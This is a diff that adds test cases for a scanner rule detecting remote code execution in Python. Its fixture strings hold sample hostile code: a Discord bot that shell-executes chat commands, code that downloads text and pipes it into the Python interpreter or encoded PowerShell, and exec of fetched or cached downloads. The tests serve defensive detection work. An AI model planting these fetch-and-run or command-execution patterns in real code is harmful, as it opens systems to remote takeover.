@@ -78,3 +78,56 @@ model = load(requests.get("https://files.example.test/weights").content)
 model.eval()
 """
     assert scan(RULE, text) == []
+
+
+def test_a_chat_bot_that_runs_what_it_is_told(scan):
+    text = """
+import discord, subprocess
+client = discord.Client()
+async def execute(command):
+    return subprocess.Popen(command, shell=True).communicate()
+@client.event
+async def on_message(message):
+    if message.content.startswith("!run "):
+        await execute(message.content[5:])
+"""
+    assert scan(RULE, text) == [(5, "HIGH", "MEDIUM", "run")]
+    assert scan(RULE, text.replace("message.content[5:]", '"ls"')) == []
+
+
+def test_an_interpreter_that_is_fed(scan):
+    text = """
+import subprocess, requests, base64, sys
+def run():
+    text = requests.get("https://files.example.test/x").text
+    process = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
+    process.communicate(text.encode())
+    subprocess.run("powershell -enc " + base64.b64encode(text.encode("utf-16le")).decode(), shell=True)
+"""
+    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run"), (7, "HIGH", "HIGH", "run")]
+
+
+def test_near_miss_a_program_that_gets_data(scan):
+    text = """
+import subprocess, requests
+def run():
+    text = requests.get("https://files.example.test/x").text
+    subprocess.Popen(["sort", "-u"], stdin=subprocess.PIPE).communicate(text.encode())
+"""
+    assert scan(RULE, text) == []
+
+
+def test_a_usual_helper_that_a_script_fetches_is_less_sure(scan):
+    text = "from urllib.request import urlopen\nexec(urlopen('https://files.example.test/ez_setup.py').read())\n"
+    assert scan(RULE, text, "thing-1.0/bootstrap.py") == [(2, "HIGH", "MEDIUM", "import")]
+    assert scan(RULE, text, "thing-1.0/setup.py") == [(2, "HIGH", "HIGH", "install")]
+
+
+def test_a_file_that_was_downloaded_before(scan):
+    text = """
+import requests
+def go():
+    open("cache.py", "w").write(requests.get("https://files.example.test/x").text)
+    exec(open("cache.py").read())
+"""
+    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]
